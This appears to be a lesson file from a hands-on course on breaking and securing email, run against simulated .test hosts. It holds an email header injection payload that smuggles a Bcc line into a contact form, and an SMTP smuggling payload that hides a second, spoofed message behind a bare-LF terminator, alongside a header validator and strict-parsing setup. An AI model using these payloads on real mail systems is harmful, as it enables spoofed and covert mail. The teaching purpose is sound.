from smtp_nb.classroom import Net, Terminal
from smtp_nb.classroom.lessons.breaking_it import contact_form

word = lesson.nonce

# 11.1
contact_form(lesson.net, f"Ann <form@post.test>\r\nBcc: {word}@bank.test\r\nX-Rest:")


def safe_header(text):
    if any(ord(letter) < 32 or ord(letter) == 127 for letter in text):
        raise ValueError("a header value holds no line ends and no control characters")
    return text


# 11.2
with Terminal(lesson.net["post.test"], name=lesson.student) as terminal:
    terminal.dialogue("""
        EHLO me.test
        MAIL FROM:<me@post.test>
        RCPT TO:<ben@bank.test>
        DATA
    """)
    terminal.send(
        b"From: me@post.test\r\nSubject: one\r\n\r\nHello\r\n"
        b"\n.\n"
        + f"MAIL FROM:<{word}@post.test>\nRCPT TO:<ben@bank.test>\nDATA\n".encode()
        + f"From: {word}@post.test\nSubject: two\n\nSmuggled\r\n".encode()
        + b".\r\n"
    )
    terminal.read()
    terminal.dialogue("QUIT")


# 11.3
def build(zone):
    return Net(zone, manner={"front.test": "strict", "back.test": "strict"})


build.__doc__ = lesson.nonce  # a student writes the word itself as the docstring
